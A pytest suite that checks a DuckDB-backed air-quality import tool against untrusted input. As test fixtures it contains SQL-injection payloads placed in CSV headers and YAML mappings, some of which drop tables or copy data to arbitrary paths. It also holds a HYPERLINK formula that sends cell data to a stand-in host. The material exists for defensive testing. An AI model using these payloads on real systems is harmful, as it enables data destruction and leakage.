"""Regression tests of issue 7: files, paths, mappings, names and the store file are untrusted.

Each test says what went wrong before and why the new answer is right.  They run the real CLI
(``typer.testing.CliRunner`` on ``ecozone.cli.app``, the same error path as the console script)
against real files and a real store file.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import duckdb
import pytest
from typer.testing import CliRunner

from ecozone.cli import app, common
from ecozone.errors import InputError, StoreError
from ecozone.store.db import connect
from ecozone.store.sqlsafe import exact_file, file_path, ident, literal, reader_connection
from tests.security.storecheck import snapshot

runner = CliRunner()


def run(*args: str) -> tuple[int, str]:
    """Exit code and output of the CLI, on a page wide enough that no message is wrapped."""
    widths = common.console.width, common.err_console.width
    common.console.width = common.err_console.width = 100_000
    try:
        res = runner.invoke(app, list(args))
    finally:
        common.console.width, common.err_console.width = widths
    return res.exit_code, res.output


def assert_clean(output: str, *, echoes_sql: bool = False) -> None:
    """No traceback, no raw engine message, no SQL echoed (unless the input itself was SQL)."""
    bad = ["Traceback", "Binder Error", "Parser Error", "Catalog Error", "LINE 1:", "duckdb."]
    for text in bad + ([] if echoes_sql else ["SELECT ", "FROM "]):
        assert text not in output, output


# --------------------------------------------------------------------------- 1. SQL and files


def test_sqlsafe_quotes_identifiers_and_literals() -> None:
    assert ident('a"b') == '"a""b"'
    assert literal("it's") == "'it''s'"
    with pytest.raises(InputError):
        ident("a\x00b")
    con = duckdb.connect()
    weird = 'x"); DROP TABLE t; --'
    con.execute(f"CREATE TABLE t ({ident(weird)} INTEGER)")  # sql: vetted (ident)
    assert [r[0] for r in con.execute("DESCRIBE t").fetchall()] == [weird]
    assert con.execute(f"SELECT {literal(weird)}").fetchone() == (weird,)  # sql: vetted (literal)


def test_glob_characters_in_a_file_name_read_that_file(tmp_path: Path) -> None:
    """`glob[1].csv` beside `glob1.csv` was read as `glob1.csv`: DuckDB expands [ ] * ? in paths."""
    (tmp_path / "glob1.csv").write_text("a\n1\n", encoding="utf-8")
    for name, value in (("glob[1].csv", "2"), ("g*.csv", "3"), ("g?ob1.csv", "4"), ("it's [x].csv", "5")):
        path = tmp_path / name
        path.write_text(f"a\n{value}\n", encoding="utf-8")
        con = reader_connection(path)
        got = con.execute("SELECT a FROM read_csv(?, all_varchar = true)", [exact_file(path)]).fetchall()
        assert got == [(value,)], name
        assert con.execute(f"SELECT count(*) FROM read_csv({file_path(path)})").fetchone() == (1,)  # sql: vetted
        con.close()
    with pytest.raises(InputError, match="directory"):
        exact_file(tmp_path)
    with pytest.raises(InputError, match="no such file"):
        exact_file(tmp_path / "absent.csv")


def test_reader_connection_reads_only_its_file_and_writes_nothing(tmp_path: Path) -> None:
    mine, other = tmp_path / "mine.csv", tmp_path / "other.csv"
    mine.write_text("a\n1\n", encoding="utf-8")
    other.write_text("a\n2\n", encoding="utf-8")
    con = reader_connection(mine)
    for sql in (f"SELECT * FROM read_csv({literal(other)})", f"COPY (SELECT 1) TO {literal(tmp_path / 'out.csv')}",
                f"ATTACH {literal(tmp_path / 'x.duckdb')}", "SET enable_external_access = true"):
        with pytest.raises(duckdb.Error):
            con.execute(sql)
    assert not (tmp_path / "out.csv").exists() and not (tmp_path / "x.duckdb").exists()


def test_china_sites_header_cannot_run_sql(db: Path, tmp_path: Path) -> None:
    """A crafted header cell ran CREATE TABLE and COPY … TO '<any path>', and the import succeeded."""
    target = tmp_path / "pwned.csv"
    cell = f'1001A" FROM air_wide; CREATE TABLE pwn AS SELECT 1; COPY (SELECT 42) TO \'{target}\'; --'
    f = tmp_path / "china_sites_20220104.csv"
    f.write_text('date,hour,type,"' + cell.replace('"', '""') + '"\n20220104,1,PM2.5,5\n', encoding="utf-8")
    before = snapshot(db)
    code, out = run("air", "import", "--format", "china_sites", str(f))
    assert code == 2 and "unknown station code" in out   # the header cell is a (strange) station code
    assert not target.exists()
    assert snapshot(db) == before
    assert_clean(out, echoes_sql=True)


def test_mapping_values_cannot_run_sql(db: Path, tmp_path: Path) -> None:
    """`time_format` went into SQL inside quotes; the injected table stayed although the import failed."""
    mapping = tmp_path / "m.yaml"
    mapping.write_text(textwrap.dedent("""\
        station: "站点"
        time: "时间"
        time_format: "%Y') AS ts FROM air_file; CREATE TABLE pwn AS SELECT 1; --"
        columns: {pm25: 'PM25" FROM x; DROP TABLE air_station; --'}
        """), encoding="utf-8")
    data = tmp_path / "m.csv"
    data.write_text('站点,时间,"PM25"" FROM x; DROP TABLE air_station; --"\n1001A,2022-01-04 05:00:00,10\n',
                    encoding="utf-8")
    before = snapshot(db)
    code, out = run("air", "import", "--format", "csv", "--mapping", str(mapping), str(data))
    assert code == 2, out
    assert snapshot(db) == before
    con = connect(db, read_only=True)
    assert con.execute("SELECT count(*) FROM information_schema.tables WHERE table_name = 'pwn'").fetchone() == (0,)
    con.close()
    assert_clean(out, echoes_sql=True)


# --------------------------------------------------------------------------- 2. one error path


@pytest.mark.parametrize(("content", "expect"), [
    ("", "empty"),
    ("timepoint,stationcode,pm2_5,pm10,so2,no2,co,o3\n", "no data rows"),
    ("date,hour,type,1001A\n20220104,1,PM2.5,5\n", "missing column"),
    ("timepoint,stationcode,pm2_5,pm10,so2,no2,co,o3\n2022-01-04T01:00:00,1001A,1,2,3,4,0.5,6\n"
     "2022-01-04T01:00:00,1003A,1,2", "Expected Number of Columns"),
])
def test_bad_files_get_a_clean_message_naming_the_file(db: Path, tmp_path: Path, content: str, expect: str,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """An empty, header-only, wrongly formatted or truncated file answered with DuckDB's Binder Error."""
    monkeypatch.setenv("ECOZONE_LANG", "en")
    f = tmp_path / "bad.csv"
    f.write_text(content, encoding="utf-8")
    before = snapshot(db)
    code, out = run("air", "import", "--format", "cnemc", str(f))
    assert code == 2 and expect in out and "bad.csv" in out, out
    assert_clean(out)
    assert snapshot(db) == before


def test_paths_that_are_not_files_or_hold_markup(db: Path, tmp_path: Path, cnemc_file: Path) -> None:
    """A directory as a path, and a path with Rich markup such as [/], raised tracebacks."""
    folder = tmp_path / "empty[" / "]dir"
    folder.mkdir(parents=True)
    code, out = run("air", "import", "--format", "cnemc", str(folder))
    assert code == 2 and "empty[/]dir" in out
    marked = tmp_path / "[bold]x[" / "][red].csv"
    marked.parent.mkdir()
    shutil.copy(cnemc_file, marked)
    code, out = run("air", "import", "--format", "cnemc", "--register-stations", str(marked))
    assert code == 0, out
    code, out = run("air", "import", "--format", "cnemc", str(tmp_path / "[/]missing.csv"))
    assert code == 2 and "[/]missing.csv" in out
    assert_clean(out)


def test_missing_malformed_mapping_and_corrupt_workbook(db: Path, tmp_path: Path) -> None:
    data = tmp_path / "d.xlsx"
    data.write_bytes(b"PK\x03\x04 this is not a workbook")
    good = tmp_path / "good.yaml"
    good.write_text("station: s\ntime: t\ncolumns: {pm25: p}\n", encoding="utf-8")
    bad = tmp_path / "bad.yaml"
    bad.write_text("station: [\n", encoding="utf-8")
    listy = tmp_path / "list.yaml"
    listy.write_text("- a\n- b\n", encoding="utf-8")
    for mapping, expect in ((tmp_path / "none.yaml", "列映射文件不存在"), (bad, "YAML"), (listy, "应为键值映射"),
                            (tmp_path, "文件夹"), (good, "Excel")):
        code, out = run("air", "import", "--format", "excel", "--mapping", str(mapping), str(data))
        assert code == 2 and expect in out, (mapping, out)
        assert_clean(out)


def test_observation_files_that_are_not_text(db: Path, tmp_path: Path) -> None:
    """`obs import` of a non-UTF-8 CSV, a binary file or a corrupt workbook raised tracebacks."""
    gbk = tmp_path / "gbk.csv"
    gbk.write_bytes("region,indicator,period,value\n河北省,air.pm25_annual_mean,2024,37\n".encode("gbk"))
    binary = tmp_path / "bin.csv"
    binary.write_bytes(bytes(range(256)) * 4)
    book = tmp_path / "broken.xlsx"
    book.write_bytes(b"PK\x03\x04\x00\x00garbage")
    for f, expect in ((gbk, "UTF-8"), (binary, "二进制"), (book, "Excel")):
        code, out = run("obs", "import", str(f))
        assert code == 2 and expect in out and f.name in out, out
        assert_clean(out)


def test_unexpected_errors_are_one_line_and_a_log(db: Path, tmp_path: Path, cnemc_file: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Any exception ecozone did not anticipate: one line naming a log file with the traceback."""
    from ecozone.air import service

    def broken(*args: object, **kwargs: object) -> None:
        raise ZeroDivisionError("[bold]boom[/]")

    monkeypatch.setattr(service, "import_files", broken)
    code, out = run("air", "import", "--format", "cnemc", str(cnemc_file))
    assert code == 1 and "Traceback" not in out and "[bold]boom[/]" in out
    logs = list((tmp_path / "state" / "ecozone" / "logs").glob("error-*.log"))
    assert len(logs) == 1 and "Traceback" in logs[0].read_text(encoding="utf-8")
    assert str(logs[0]) in out.replace("\n", "")


def test_names_with_markup_list_cleanly_and_long_values_are_cut(db: Path, tmp_path: Path) -> None:
    """Station names with Rich markup broke `air stations list`; a 200,000-character value was echoed whole."""
    code, out = run("air", "stations", "add", "--code", "X[/]1", "--name", "[bold red]evil[/]", "--city", "北京市")
    assert code == 0, out
    code, out = run("air", "stations", "list", "--city", "北京市")
    assert code == 0 and "[bold red]evil[/]" in out and "X[/]1" in out
    f = tmp_path / "long.csv"
    f.write_text("region,indicator,period,value\n130000,air.pm25_annual_mean,2024," + "x" * 100_000 + "\n",
                 encoding="utf-8")
    code, out = run("obs", "import", str(f))
    assert code == 2 and "…" in out and len(out) < 2000


# --------------------------------------------------------------------------- 3. the store


def test_a_foreign_file_or_folder_is_refused_as_store_before_reading(tmp_path: Path, cnemc_file: Path) -> None:
    """A --db that was not a DuckDB file was accepted, the import reported rows added, nothing was stored."""
    fake = tmp_path / "fake.duckdb"
    fake.write_bytes(b"region,value\n130000,1\n")
    code, out = run("air", "import", "--db", str(fake), "--format", "cnemc", str(cnemc_file))
    assert code == 1 and "不是 DuckDB" in out, out
    assert fake.read_bytes() == b"region,value\n130000,1\n"
    for bad in (tmp_path, Path("/proc/ecozone-no-such/store.duckdb")):
        code, out = run("air", "import", "--db", str(bad), "--format", "cnemc", str(tmp_path / "absent.csv"))
        assert code == 1, out  # refused for the store, before the (missing) input is looked at
        assert_clean(out)
    empty = tmp_path / "empty.duckdb"
    empty.touch()
    with pytest.raises(StoreError, match="not a DuckDB"):
        connect(empty)


HOLD = "import duckdb, sys, time; c = duckdb.connect(sys.argv[1]); print('held', flush=True); time.sleep(float(sys.argv[2]))"


def test_a_locked_store_is_waited_for_then_refused(db: Path, cnemc_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two processes on one store raised DuckDB's "Conflicting lock" as a traceback."""
    monkeypatch.setenv("ECOZONE_LANG", "en")
    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(db), "30"], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        t0 = time.monotonic()
        code, out = run("air", "import", "--format", "cnemc", "--register-stations", str(cnemc_file))
        assert code == 1 and "store busy" in out and "waiting" in out, out
        assert 1.5 < time.monotonic() - t0 < 20
    finally:
        holder.kill()
        holder.wait()
    # released while we wait: the import goes through, nothing lost
    monkeypatch.setenv("ECOZONE_LOCK_TIMEOUT", "30")
    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(db), "1.5"], stdout=subprocess.PIPE, text=True)
    assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
    code, out = run("air", "import", "--format", "cnemc", "--register-stations", str(cnemc_file))
    holder.wait()
    assert code == 0 and "store busy" in out, out
    con = connect(db, read_only=True)
    assert con.execute("SELECT count(*) FROM air_import_batch").fetchone() == (1,)
    con.close()


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root may write read-only files")
def test_a_read_only_store_is_refused(db: Path, cnemc_file: Path) -> None:
    db.chmod(0o444)
    try:
        code, out = run("air", "import", "--format", "cnemc", str(cnemc_file))
        assert code == 1 and ("不可写" in out or "not writable" in out)
    finally:
        db.chmod(0o644)


# --------------------------------------------------------------------------- 4. plausibility


def _hour_file(tmp_path: Path, stamp: str) -> Path:
    f = tmp_path / "h.csv"
    f.write_text("timepoint,stationcode,pm2_5,pm10,so2,no2,co,o3\n"
                 f"{stamp},1001A,10,20,3,40,0.5,60\n", encoding="utf-8")
    return f


@pytest.mark.parametrize(("stamp", "reason"), [
    ("2999-01-01T05:00:00", "in the future"),
    ("1999-12-31T05:00:00", "earlier than the monitoring network"),
])
def test_station_hours_outside_the_plausible_window_are_errors(db: Path, tmp_path: Path, stamp: str,
                                                                reason: str) -> None:
    """Station hours far in the future or the distant past were stored silently."""
    code, out = run("air", "import", "--format", "cnemc", str(_hour_file(tmp_path, stamp)))
    assert code == 2 and reason in out and stamp in out, out


def test_the_earliest_hour_is_configurable(db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ECOZONE_EARLIEST_HOUR", "1990-01-01")
    code, out = run("air", "import", "--format", "cnemc", str(_hour_file(tmp_path, "1999-12-31T05:00:00")))
    assert code == 0, out


def test_observations_outside_the_domain_are_refused_and_soft_outliers_flagged(db: Path, tmp_path: Path) -> None:
    """`obs import` accepted a negative PM2.5, a share of 150 % and 99999."""
    f = tmp_path / "obs.csv"
    f.write_text("region,indicator,period,value\n130000,air.pm25_annual_mean,2024,-5\n"
                 "130000,air.good_day_ratio,2024,150\n131000,air.pm25_annual_mean,2024,99999\n", encoding="utf-8")
    before = snapshot(db)
    code, out = run("obs", "import", f"{f}")
    assert code == 2 and out.count("合理范围") == 3, out
    assert snapshot(db) == before
    # PM2.5 annual mean 200 µg/m³: possible (hard 0-300) but outside the soft range: kept and flagged
    f.write_text("region,indicator,period,value\n131000,air.pm25_annual_mean,2024,200\n", encoding="utf-8")
    code, out = run("obs", "import", f"{f}")
    assert code == 0 and "通常范围" in out, out
    con = connect(db, read_only=True)
    assert con.execute("SELECT quality_flag FROM observation WHERE source_type = 'import'").fetchall() == [
        ("outside_soft_range",)]
    con.close()


# --------------------------------------------------------------------------- 5. idempotence


def test_the_same_file_twice_records_nothing_new(db: Path, cnemc_file: Path, china_sites_file: Path,
                                                 tmp_path: Path) -> None:
    """A file imported twice added an import record and stored its warnings again each time."""
    code, out = run("air", "import", "--format", "cnemc", "--register-stations", str(cnemc_file))
    assert code == 0, out
    after_first = snapshot(db)
    code, out = run("air", "import", "--format", "cnemc", "--register-stations", str(cnemc_file))
    assert code == 0 and "跳过" in out, out
    assert snapshot(db) == after_first
    obs = tmp_path / "o.csv"
    obs.write_text("region,indicator,period,value\n130000,air.pm25_annual_mean,2024,37\n", encoding="utf-8")
    assert run("obs", "import", str(obs))[0] == 0
    once = snapshot(db)
    code, out = run("obs", "import", str(obs))
    assert code == 0 and "批次" in out
    assert snapshot(db) == once


def test_conflicts_name_hours_as_times(db: Path, tmp_path: Path) -> None:
    """Messages showed internal hour numbers ("hour 455908") instead of times."""
    f = _hour_file(tmp_path, "2022-01-04T05:00:00")
    assert run("air", "import", "--format", "cnemc", str(f))[0] == 0
    g = tmp_path / "g.csv"
    g.write_text(f.read_text(encoding="utf-8").replace(",10,", ",11,"), encoding="utf-8")
    code, out = run("air", "import", "--format", "cnemc", str(g))
    assert code == 2 and "1001A 2022-01-04 04:00" in out and "hour 4" not in out, out


def test_a_mapped_file_is_the_same_import_only_with_the_same_mapping(db: Path, tmp_path: Path) -> None:
    """Idempotence is by content: the same bytes read with another mapping are another import."""
    data = tmp_path / "m.csv"
    data.write_text("s,t,a,b\n1001A,2022-01-04 05:00,10,20\n", encoding="utf-8")
    one, two = tmp_path / "one.yaml", tmp_path / "two.yaml"
    one.write_text("station: s\ntime: t\ntime_format: '%Y-%m-%d %H:%M'\ncolumns: {pm25: a}\n", encoding="utf-8")
    two.write_text("station: s\ntime: t\ntime_format: '%Y-%m-%d %H:%M'\ncolumns: {pm25: a, pm10: b}\n",
                   encoding="utf-8")
    assert run("air", "import", "--format", "csv", "--mapping", str(one), str(data))[0] == 0
    code, out = run("air", "import", "--format", "csv", "--mapping", str(one), str(data))
    assert code == 0 and "跳过" in out
    code, out = run("air", "import", "--format", "csv", "--mapping", str(two), str(data))
    assert code == 2 and "与已入库数值不同" in out   # pm10 now 20 where the first import stored none
    con = connect(db, read_only=True)
    assert con.execute("SELECT count(*), count(mapping_sha256) FROM air_import_batch").fetchone() == (1, 1)
    con.close()


def test_workbooks_keep_formula_like_text_as_text(tmp_path: Path) -> None:
    """A name such as =HYPERLINK(…) from a file must not become a live formula in a workbook we write."""
    from openpyxl import load_workbook

    from ecozone.ingest.observations import ListSheet, write_workbook_template

    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    out = write_workbook_template(
        tmp_path / "t.xlsx", columns=["region", "value"], column_help={}, rows=[[evil, 1]],
        example=[["=1+1", 2]], lists=[ListSheet("regions", ["code"], [["@SUM(A1)"], [evil]], "region")])
    wb = load_workbook(out)
    cells = [wb["observations"]["A2"], wb["示例 example"]["A3"], wb["regions"]["A3"]]
    assert [c.value for c in cells] == [evil, "=1+1", evil]
    assert all(c.data_type == "s" for c in cells)


def test_a_value_beyond_float32_is_an_error_not_a_crash(db: Path, tmp_path: Path) -> None:
    """Found by the fuzzing suite: 1e308 in a china_sites file aborted the read with DuckDB's
    "out of range for FLOAT" (a crash log) instead of the import error "impossible value"."""
    f = tmp_path / "china_sites_20220104.csv"
    f.write_text("date,hour,type,1006A\r\n20220104,11,PM2.5,1e308\r\n20220104,11,PM10,38\r\n", encoding="utf-8")
    code, out = run("air", "import", "--format", "china_sites", str(f))
    assert code == 2 and "impossible value" in out and "1e308" in out, out


def test_a_bad_earliest_hour_setting_is_a_clear_error(db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ECOZONE_EARLIEST_HOUR", "last tuesday")
    code, out = run("air", "import", "--format", "cnemc", str(_hour_file(tmp_path, "2022-01-04T05:00:00")))
    assert code == 2 and "ECOZONE_EARLIEST_HOUR" in out
